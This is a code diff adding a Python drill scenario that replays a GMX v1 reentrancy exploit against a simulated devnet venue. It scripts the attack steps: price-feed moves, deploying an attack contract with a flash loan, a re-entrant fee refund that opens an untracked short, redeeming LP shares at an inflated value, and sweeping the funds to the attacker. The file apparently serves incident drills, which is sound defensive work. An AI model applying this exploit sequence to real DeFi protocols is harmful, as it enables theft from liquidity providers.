@@ -1,0 +1,95 @@
+"""reentrant-aum — GMX v1, Jul 2025: the keeper refunds the execution fee to the order owner while the
+keeper window is open; the owner's contract re-enters, opens a huge short on the path that skips the
+global short tracker, and redeems LP shares at the inflated pool value — one atomic drain."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from breakglass.devnet.venue import USD, Venue, role_key
+from breakglass.drills.scenarios.base import ETHER, AttackContext, Scenario, Step
+
+ETH = 0
+
+
+class ReentrantAum(Scenario):
+    name = "reentrant-aum"
+    incident = "GMX v1 on Arbitrum, 2025-07-09 (~$42M)"
+    summary = "re-enter through the fee refund; shorts skip the tracker; redeem LP shares above fair value"
+    switches = ("reentrant_refund",)
+    target_label = "LP vault (all compartments and idle)"
+    funding_usd = 700_000 * USD
+    order_margin = 10_000 * USD
+    order_size = 100_000 * USD
+    loan = 40_000_000 * USD
+    short_size = 18_000_000 * USD
+    short_margin = 400_000 * USD
+    cycles = 4
+    fee = ETHER // 1_000
+
+    def prepare(self, ctx: AttackContext) -> Iterator[Step]:
+        # An honest rally: shorts opened at $2,000 are under water when the attack starts.
+        feed, keeper = ctx.venue["feed_eth"], role_key("price_keeper")
+        for price in (2_080, 2_160, 2_240, 2_300):
+            yield ctx.call(
+                f"feed: ETH ${price}",
+                feed,
+                "updateAnswer",
+                price * 10**8,
+                signer=keeper,
+                gas=200_000,
+                wait_seconds=600,
+            )
+
+    def deploy(self, ctx: AttackContext) -> Iterator[Step]:
+        v = ctx.venue
+        yield ctx.deploy(
+            "deploy attack contract",
+            "ReentrantAumAttack",
+            v.usd.address,
+            v.market(ETH).address,
+            v.vault.address,
+            v["flash_lender"].address,
+        )
+        attack = ctx.attack("ReentrantAumAttack")
+        yield ctx.call("fund attack contract", v.usd, "transfer", attack.address, self.funding_usd)
+        yield ctx.call(
+            "increase order (short)",
+            attack,
+            "createOrder",
+            True,
+            self.order_margin,
+            self.order_size,
+            value=self.fee,
+            wait_seconds=2,
+        )
+        yield self._keeper_executes(ctx, "keeper executes the increase order")
+        yield ctx.call(
+            "decrease order (the trigger)", attack, "createOrder", False, 0, 0, value=self.fee, wait_seconds=2
+        )
+        yield ctx.call(
+            "arm the re-entrant receive()",
+            attack,
+            "arm",
+            self.loan,
+            self.short_size,
+            self.short_margin,
+            self.cycles,
+            wait_seconds=2,
+        )
+
+    def _keeper_executes(self, ctx: AttackContext, label: str) -> Step:
+        """The venue's honest keeper executes the newest order (it cannot tell it is a trap)."""
+        m = ctx.venue.market(ETH)
+        order_id = m.functions.orderCount().call() - 1
+        return ctx.call(
+            label, m, "executeOrder", order_id, signer=role_key("keeper"), gas=15_000_000, wait_seconds=12
+        )
+
+    def strike(self, ctx: AttackContext) -> Iterator[Step]:
+        attack = ctx.attack("ReentrantAumAttack")
+        yield self._keeper_executes(ctx, "keeper executes the decrease order (re-entrancy)")
+        yield ctx.call("sweep to attacker", attack, "sweep", wait_seconds=2)
+
+    def target(self, venue: Venue) -> int:
+        return int(venue.vault.functions.cash().call())
